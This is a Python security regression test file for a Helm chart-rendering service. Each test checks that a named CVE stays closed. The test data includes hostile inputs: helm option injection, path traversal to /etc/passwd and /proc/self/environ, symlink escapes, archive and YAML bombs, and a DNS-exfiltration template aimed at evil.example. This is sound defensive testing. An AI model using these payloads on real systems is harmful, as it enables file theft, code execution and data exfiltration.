"""Published holes of tools that fetch charts, each by its name: tried, with a canary.

Security: security.md 1a. Archives, servers and dependencies have tests of their own beside this
file; here is what is left of each row, through the service's own door.
"""

import gzip
import io
import json
import os
import pathlib
import tarfile
import tempfile

import grpc
import pytest

from plumbline.pb.repo import repo_pb2, repo_pb2_grpc
from plumbline.rpc import channels

CHART = "apiVersion: v2\nname: web\nversion: 1.0.0\n"
OBJECT = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ok}\n"
SHOW = OBJECT + "data: {values: {{ .Values | toJson | quote }}}\n"
CHART_LAYER = "application/vnd.cncf.helm.chart.content.v1.tar+gzip"
TAR = "application/vnd.oci.image.layer.v1.tar+gzip"
PLAIN = {"insecure_oci_force_http": True}
ENABLED = {"kustomize_build_options": "--enable-helm"}


def member(name, kind=tarfile.REGTYPE, text="", linkname="", mode=0o644):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    content = text.encode()
    info.size = len(content)
    return info, content


def archive(*members):
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w") as tar:
        for info, content in members:
            tar.addfile(info, io.BytesIO(content))
    return gzip.compress(into.getvalue(), mtime=0)


def chart_archive(tmp_path, files=None, *more):
    """An archive of the chart `web`; the server keeps by digest, so each test brings its own."""
    tree = {"Chart.yaml": CHART, "templates/cm.yaml": SHOW, "own.txt": str(tmp_path)}
    tree |= files or {}
    return archive(*(member(f"web/{name}", text=text) for name, text in tree.items()), *more)


def permits(*rules):
    return repo_pb2.ChartAccess(source_repos=rules)


async def renders(render_chart, source):
    """Return what comes of a source that is fetched anew."""
    answer = await render_chart(source, revision=source["targetRevision"], no_cache=True)
    assert "" == answer.error.message
    return b"".join(answer.manifests).decode()


async def test_cve_2026_15416_no_command_but_helm(repository, render_git, tmp_path):
    """--enable-helm is allowed, a helm of the repository's own is not: nothing starts."""
    marker = tmp_path / "marker"
    script = f"#!/bin/sh\ntouch {marker}\n"
    repository.commit(
        {
            "app/kustomization.yaml": "helmCharts: [{name: local, releaseName: r}]\n",
            "app/charts/local/Chart.yaml": CHART.replace("web", "local"),
            "app/charts/local/values.yaml": "a: b\n",
            "app/charts/local/templates/cm.yaml": SHOW,
            "app/x.sh": script,
            "app/helm": script,
        }
    )
    (repository.path / "app/x.sh").chmod(0o755)
    (repository.path / "app/helm").chmod(0o755)
    repository.commit()

    for command in ("./x.sh", "x.sh", "./helm", "/bin/sh", "helm --post-renderer=./x.sh"):
        options = f"--enable-helm --helm-command '{command}'"
        answer = await render_git(kustomize_build_options=options)
        assert answer.error.code in ("INVALID_ARGUMENT", "UNIMPLEMENTED"), command
        assert not answer.manifests
    without = await render_git()
    enabled = await render_git(**ENABLED)

    assert "--enable-helm" in without.error.message
    assert 1 == len(enabled.manifests), enabled.error.message
    assert not marker.exists()


async def test_cve_2026_113709_helms_homes_are_not_the_repositorys(
    repository, render_git, render_chart, serve, tmp_path
):
    """A plugin in a repository or in a fetched chart is neither found by helm nor loaded."""
    marker = tmp_path / "marker"
    plugin = (
        "name: probe\nversion: 1.0.0\nruntime: subprocess\ntype: getter/v1\napiVersion: v1\n"
        "config: {protocols: [probe]}\nruntimeConfig: {protocolCommands: [{protocols: [probe],"
        f" platformCommand: [{{command: touch, args: ['{marker}']}}]}}]}}\n"
    )
    homes = ("helm-home/.data/plugins/probe", "plugins/probe", "charts/helm/plugins/probe")
    files = {f"app/{home}/plugin.yaml": plugin for home in homes}
    inflate = {"name": "web", "repo": "probe://chart", "version": "1.0.0"}
    repository.commit(files | {"app/kustomization.yaml": json.dumps({"helmCharts": [inflate]})})
    probed = await render_git(charts=permits("*"), **ENABLED)
    globals_ = {"helmGlobals": {"configHome": "helm-home"}, "helmCharts": [inflate]}
    repository.commit({"app/kustomization.yaml": json.dumps(globals_)})
    configured = await render_git(charts=permits("*"), **ENABLED)
    inside = {f"{home}/plugin.yaml": plugin for home in homes}
    source = serve(chart_archive(tmp_path, inside), valueFiles=["probe://x"])
    fetched = await render_chart(source, revision="1.0.0")

    assert "probe://" in probed.error.message or "schemes" in probed.error.message
    assert "helmGlobals.configHome is refused" in configured.error.message
    assert "a render has no network" in fetched.error.message
    assert not marker.exists()


@pytest.mark.parametrize(
    "field", ["releaseName", "name", "version", "namespace", "valuesFile", "kubeVersion", "repo"]
)
@pytest.mark.parametrize("value", ["--post-renderer=./x.sh", "-f/etc/passwd", "a\n--debug"])
async def test_kustomize_6241_no_field_becomes_an_option(
    repository, render_git, tmp_path, field, value
):
    """Every field that goes to helm's command line; nothing starts."""
    marker = tmp_path / "marker"
    item = {"name": "local", "releaseName": "r", field: value}
    repository.write(
        {
            "app/kustomization.yaml": json.dumps({"helmCharts": [item]}),
            "app/charts/local/Chart.yaml": CHART.replace("web", "local"),
            "app/charts/local/templates/cm.yaml": SHOW,
            "app/x.sh": f"#!/bin/sh\ntouch {marker}\n",
        }
    )
    (repository.path / "app/x.sh").chmod(0o755)
    repository.commit()

    answer = await render_git(charts=permits("*"), **ENABLED)

    assert answer.error.message
    assert not answer.manifests
    assert not marker.exists()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("{secret}", "does not exist"),
        ("../../secret.yaml", "leaves"),
        ("../" * 32 + "etc/passwd", "leaves"),
        ("file://{secret}", "a render has no network"),
        ("http:/../../x", "a render has no network"),
        ("$values/../../secret.yaml", "no source has a 'ref'"),
    ],
)
@pytest.mark.parametrize("field", ["valueFiles", "fileParameters"])
async def test_cve_2022_24348_values_of_a_fetched_chart_are_its_own(
    serve, outcome, tmp_path, secret, field, path, text
):
    """As with a chart in Git: no absolute path, no way up, no URL."""
    path = path.format(secret=secret)
    value = [path] if field == "valueFiles" else [{"name": "a", "path": path}]

    assert text in await outcome(serve(chart_archive(tmp_path), **{field: value}))


async def test_cve_2022_24730_details_of_a_chart_tell_of_nothing_outside(
    serve, stub, tmp_path, secret, canary
):
    """AppDetails with paths that lead out: an error, and nothing of the file in it."""
    for path in ("../../secret.yaml", str(secret), "../../../../etc/passwd"):
        source = serve(chart_archive(tmp_path), valueFiles=[path])
        request = repo_pb2.AppDetailsRequest(
            repository=repo_pb2.Repository(url=source["repoURL"], chart="web"),
            revision="1.0.0",
            source=repo_pb2.SourceRequest(id="x", source_json=json.dumps(source).encode()),
        )
        try:
            text = str(await stub.AppDetails(request))
        except grpc.aio.AioRpcError as error:
            text = error.details()
        assert canary not in text
        assert "root:" not in text


@pytest.mark.parametrize(
    ("links", "text"),
    [
        ({"values.yaml": "/proc/self/environ"}, "leads out"),
        ({"values.yaml": "../../secret.yaml"}, "leads out"),
        ({"values.yaml": "hop", "hop": "../../secret.yaml"}, "leads out"),
        # Each target alone stays inside: together they would not.
        ({"a/b/up": "../../templates", "values.yaml": "a/b/up/../../secret.yaml"}, "leaves"),
        ({"templates/up": ".."}, "loop"),
        ({"values.yaml": "values.yaml"}, "loop"),
        ({"files/environ": "/proc/self/environ"}, "leads out"),
        ({"Chart.lock": "../../secret.yaml"}, "leads out"),
    ],
    ids=["absolute", "outside", "hop", "chain", "parent", "loop", "environ", "lock"],
)
async def test_cve_2022_24904_cve_2025_53547_links_in_an_archive_lead_nowhere(
    serve, outcome, registry, tmp_path, secret, links, text
):
    """In a chart of a Helm repository and in an artifact alike."""
    made = [member(f"web/{name}", tarfile.SYMTYPE, linkname=to) for name, to in links.items()]
    show = {"templates/f.yaml": OBJECT + 'data: {f: {{ .Files.Get "files/environ" | quote }}}\n'}
    content = chart_archive(tmp_path, show, *made)
    registry.put("team/web", "1.0.0", content, CHART_LAYER)
    artifact = {"repoURL": f"oci://{registry.host}/team/web", "path": ".", "helm": {}}

    assert text in await outcome(serve(content))
    assert text in await outcome(artifact, revision="1.0.0", repository=PLAIN)


async def test_cve_2023_40026_no_path_leads_to_another_chart(
    serve, render_chart, service, outcome, tmp_path, canary
):
    """A chart that was fetched for somebody else is not read by a path that is guessed."""
    theirs = chart_archive(tmp_path, {"values.yaml": f"stolen: {canary}\n"})
    assert canary in await renders(render_chart, serve(theirs))
    store = service.folder / "data" / "charts"
    kept = [path for path in store.rglob("*") if path.is_file()]
    assert [path for path in kept if canary.encode() in path.read_bytes()]

    for path in kept[:20]:
        for guess in (str(path), f"../../../../{path.relative_to(service.folder / 'data')}"):
            mine = chart_archive(tmp_path, {"NOTES.md": "mine"})
            assert await outcome(serve(mine, version="2.0.0", valueFiles=[guess]))
    shown = {"templates/f.yaml": OBJECT + "data:\n"}
    shown["templates/f.yaml"] += "".join(
        f"  f{n}: {{{{ .Files.Get {json.dumps(str(path))} | quote }}}}\n"
        for n, path in enumerate(kept[:20])
    )
    assert canary not in await renders(render_chart, serve(chart_archive(tmp_path, shown)))


@pytest.mark.parametrize("kind", ["chart", "values", "index", "output", "documents"])
async def test_cve_2022_31016_large_content_of_a_chart_is_bounded(
    serve, outcome, render_chart, service, tmp_path, kind
):
    """Aliases, depth and size, wherever a server can put them; the next render works."""
    bomb = "a0: &a0 [x]\n" + "".join(
        f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
    )
    files = {
        "chart": {"Chart.yaml": CHART + bomb},
        "values": {"values.yaml": bomb},
        "index": {},
        "output": {"templates/bomb.yaml": OBJECT + 'data: {a: "{{ repeat 200000000 "x" }}"}\n'},
        "documents": {"templates/bomb.yaml": "{{ range until 1000000 }}---\na: 1\n{{ end }}"},
    }
    source = serve(chart_archive(tmp_path, files[kind]))
    if kind == "index":
        entry = "apiVersion: v1\nentries: {web: [{version: 1.0.0, urls: [any.tgz]}]}\n"
        (tmp_path / "charts/index.yaml").write_text(entry + bomb)

    assert await outcome(source)

    assert _resident(service.process.pid) < 1024**3
    assert "ok" in await renders(render_chart, serve(chart_archive(tmp_path, {"x": "good"})))


def _resident(pid):
    pages = pathlib.Path(f"/proc/{pid}/statm").read_text().split()[1]
    return int(pages) * os.sysconf("SC_PAGE_SIZE")


ESCAPED = pathlib.Path(tempfile.gettempdir()) / "plumbline-escaped"
HOSTILE = {
    "bomb": ([member(f"web/{n}", text="0" * 9_000_000) for n in range(12)], "times its size"),
    "up": ([member("web/../../escaped", text="x")], "leads out"),
    "absolute": ([member(str(ESCAPED), text="x")], "absolute"),
    "hard link": ([member("web/h", tarfile.LNKTYPE, linkname="/etc/passwd")], "neither file"),
    "soft link": ([member("web/s", tarfile.SYMTYPE, linkname="/etc/passwd")], "leads out"),
    "device": ([member("web/d", tarfile.CHRTYPE)], "neither file"),
    "pipe": ([member("web/p", tarfile.FIFOTYPE)], "neither file"),
    "many": ([member(f"web/f{n}") for n in range(20_001)], "more than 20000 entries"),
    "through": (
        [
            member("web/d", tarfile.SYMTYPE, linkname="templates"),
            member("web/d/escaped", text="x"),
        ],
        "below a file",
    ),
}


@pytest.mark.parametrize("kind", HOSTILE)
async def test_cve_2023_40584_cve_2026_50162_hostile_archives_leave_nothing(
    serve, outcome, registry, service, tmp_path, kind
):
    """Bombs, links, devices, names that lead out; in a chart and in an artifact's layer."""
    members, text = HOSTILE[kind]
    content = chart_archive(tmp_path, {}, *members)
    registry.put("team/web", "1.0.0", content, CHART_LAYER)
    artifact = {"repoURL": f"oci://{registry.host}/team/web", "path": "."}

    for source, fields in ((serve(content), {}), (artifact, {"repository": PLAIN})):
        assert text in await outcome(source, **{"revision": "1.0.0", **fields})

    data = service.folder / "data"
    assert [] == [*data.rglob("*escaped*"), *data.rglob("incoming-*")]
    assert [] == list((data / "work").iterdir())
    assert not ESCAPED.exists()


async def test_cve_2023_40584_modes_of_an_archive_do_not_count(serve, render_chart, tmp_path):
    """A directory or file of mode 0 is read and removed like any other."""
    locked = [
        member("web/locked", tarfile.DIRTYPE, mode=0),
        member("web/locked/file.txt", text="inside", mode=0),
        member("web/templates/s.yaml", text=OBJECT.replace("ok", "locked"), mode=0o6777),
    ]
    show = {"templates/f.yaml": OBJECT + 'data: {f: {{ .Files.Get "locked/file.txt" }}}\n'}

    assert '"f":"inside"' in await renders(
        render_chart, serve(chart_archive(tmp_path, show, *locked))
    )


@pytest.mark.parametrize("name", ["../../escaped", "-x", "a/b", "web\nx", ""])
async def test_cve_2024_25620_cve_2026_35206_a_name_is_no_path(
    serve, outcome, service, tmp_path, name
):
    """In the Chart.yaml of a fetched archive, and as a name in an index."""
    named = CHART.replace("name: web", f"name: {json.dumps(name)}")
    text = await outcome(serve(chart_archive(tmp_path, {"Chart.yaml": named})))

    assert "holds a chart named" in text
    assert [] == list((service.folder / "data").rglob("*escaped*"))


@pytest.mark.parametrize("version", ["../../escaped", "1.0.0/../../escaped", "/escaped", "-x"])
async def test_cve_2024_25620_a_version_is_no_path(
    helm_repository, serve, repository, render_git, service, tmp_path, version
):
    """An index that lists a version with slashes: as a dependency, and inflated by kustomize."""
    serve(chart_archive(tmp_path), version=version)
    dependency = f"{{name: web, version: {version!r}, repository: {helm_repository.url!r}}}"
    item = {"name": "web", "repo": helm_repository.url, "version": version, "releaseName": "r"}
    repository.commit(
        {
            "app/Chart.yaml": CHART.replace("web", "app") + f"dependencies: [{dependency}]\n",
            "k/kustomization.yaml": json.dumps({"helmCharts": [item]}),
        }
    )
    allowed = permits(helm_repository.url)

    answers = await render_git(charts=allowed), await render_git("k", charts=allowed, **ENABLED)

    for answer in answers:
        assert answer.error.message
        assert not answer.manifests
    assert [] == list((service.folder / "data").rglob("*escaped*"))


async def test_cve_2023_25165_a_fetched_chart_reaches_no_network(
    serve, render_chart, other_host, start_service, authority, tmp_path, canary
):
    """No name is looked up, no schema fetched: neither packet nor value leaves."""
    dns = 'data: {{a: {{{{ getHostByName (printf "%s.evil.example" .Values.s) | quote }}}}}}\n'
    files = {"values.yaml": f"s: {canary}\n", "templates/d.yaml": OBJECT + dns.format()}
    looked_up = await renders(render_chart, serve(chart_archive(tmp_path, files)))
    schema = {"$ref": f"{other_host.url}/{canary}.json"}
    source = serve(chart_archive(tmp_path, {"values.schema.json": json.dumps(schema)}))
    referred = await render_chart(source, revision="1.0.0", no_cache=True)
    sent = list(other_host.requests)
    process = start_service("--plumbline-sandbox=off")
    async with channels.channel(process.target, authority.identity("controller")) as channel:
        stub = repo_pb2_grpc.RepoServiceStub(channel)
        await render_chart(source, revision="1.0.0", stub=stub)

    assert '"data":{"a":""}' in looked_up
    assert referred.error.message
    assert [] == sent
    # Without the sandbox it does ask: what holds it is tested, not only assumed.
    assert [f"/{canary}.json"] == other_host.paths()


@pytest.mark.parametrize("kind", ["schema", "template", "memory"])
async def test_cve_2025_32386_cve_2025_55199_a_fetched_chart_ends(
    serve, render_chart, start_service, authority, tmp_path, kind
):
    """A schema that refers to itself, templates without end: killed, and the next one renders."""
    deep = '{"a":' * 3000 + '{"$ref":"#"}' + "}" * 3000
    files = {
        "schema": {"values.schema.json": f'{{"allOf":[{{"$ref":"#"}}],"properties":{deep}}}'},
        "template": {
            "templates/t.yaml": '{{ define "a" }}{{ template "a" . }}{{ end }}{{ template "a" . }}'
        },
        "memory": {
            "templates/m.yaml": '{{ $x := "x" }}{{ range until 40 }}{{ $x = print $x $x }}{{ end }}'
        },
    }
    process = start_service("--plumbline-exec-timeout=8s")
    async with channels.channel(process.target, authority.identity("controller")) as channel:
        stub = repo_pb2_grpc.RepoServiceStub(channel)
        bad = await render_chart(
            serve(chart_archive(tmp_path, files[kind])), revision="1.0.0", stub=stub
        )
        source = serve(chart_archive(tmp_path, {"x": "good"}), version="1.0.1")
        good = await render_chart(source, revision="1.0.1", stub=stub, no_cache=True)

    assert bad.error.code in ("INVALID_ARGUMENT", "RESOURCE_EXHAUSTED", "DEADLINE_EXCEEDED")
    assert 1 == len(good.manifests), good.error.message
    assert [] == process.work()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("helmGlobals", {"chartHome": "../../.."}),
        ("helmGlobals", {"chartHome": "/etc"}),
        ("helmGlobals", {"chartHome": "up"}),
        ("additionalValuesFiles", ["../../../../secret.yaml"]),
        ("additionalValuesFiles", ["/etc/passwd"]),
    ],
)
async def test_cve_2022_24877_an_inflated_chart_stays_in_the_repository(
    repository, render_git, secret, canary, field, value
):
    """Where charts and their values are looked for."""
    item = {"name": "local", "releaseName": "r"}
    tree = {"helmCharts": [item]}
    (tree if field == "helmGlobals" else item)[field] = value
    repository.write(
        {
            "app/kustomization.yaml": json.dumps(tree),
            "app/charts/local/Chart.yaml": CHART.replace("web", "local"),
            "app/charts/local/templates/cm.yaml": SHOW,
        }
    )
    repository.link("app/up", "../../..")
    repository.commit()

    answer = await render_git(charts=permits("*"), **ENABLED)

    assert answer.error.message
    assert canary not in str(answer)
